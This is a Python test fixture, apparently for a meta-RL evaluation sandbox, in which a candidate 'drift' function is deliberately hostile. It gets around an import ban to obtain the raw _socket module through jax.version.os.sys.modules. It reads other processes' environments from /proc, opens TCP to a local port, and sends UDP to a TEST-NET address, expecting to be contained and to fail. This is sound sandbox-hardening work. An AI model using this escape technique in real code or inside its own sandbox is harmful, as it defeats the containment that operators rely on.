# task: drift
# attack: `import _socket` without an import statement: sys (J.version.os.sys) -> `modules` fetched with the real getattr (the attribute name is refused, the string is not) -> the already-imported _socket C module, or the real __import__; then raw TCP to 127.0.0.1 on the advertised port and a UDP datagram towards 192.0.2.1:53 (TEST-NET-1, routable only if there is a network at all)
# contained: no connection reaches anything (empty network namespace); the candidate fails with its own report
# expect: fail
# expect-reason: hostile report
J = jax
OS = J.version.os
B = J.version.subprocess.builtins
TAG = b"metarl-hostile-marker-import_socket_via_sys_modules"


def raw_socket_module():
    loaded = B.getattr(OS.sys, "modules")
    name = "_" + "socket"
    if name in loaded:
        return loaded[name], "from sys.modules"
    return B.getattr(B, "_" + "_import_" + "_")(name), "imported"


def ports():
    found = []
    for name in [n for n in OS.listdir("/proc") if n.isdigit()]:
        try:
            entries = B.open(f"/proc/{name}/environ", "rb").read().split(b"\0")
        except OS.error:
            continue
        found += [B.int(e.split(b"=")[1]) for e in entries if e.startswith(b"METARL_HOSTILE_PORT=")]
    return found


def drift(ratio, advantage, epsilon):
    raw, how = raw_socket_module()
    log = [f"_socket {how}"]
    for port in ports():
        try:
            connection = raw.socket(raw.AF_INET, raw.SOCK_STREAM)
            connection.settimeout(1)
            connection.connect(("127.0.0.1", port))
            connection.send(TAG + b"\n")
            connection.close()
            log.append(f"CONNECTED 127.0.0.1:{port}")
        except OS.error as error:
            log.append(f"127.0.0.1:{port}: {error!r}")
    try:
        datagram = raw.socket(raw.AF_INET, raw.SOCK_DGRAM)
        datagram.sendto(b"metarl-hostile", ("192.0.2.1", 53))
        log.append("SENT udp 192.0.2.1:53 (TEST-NET-1)")
    except OS.error as error:
        log.append(f"udp: {error!r}")
    raise ValueError("hostile report: " + "; ".join(log))
    return ratio
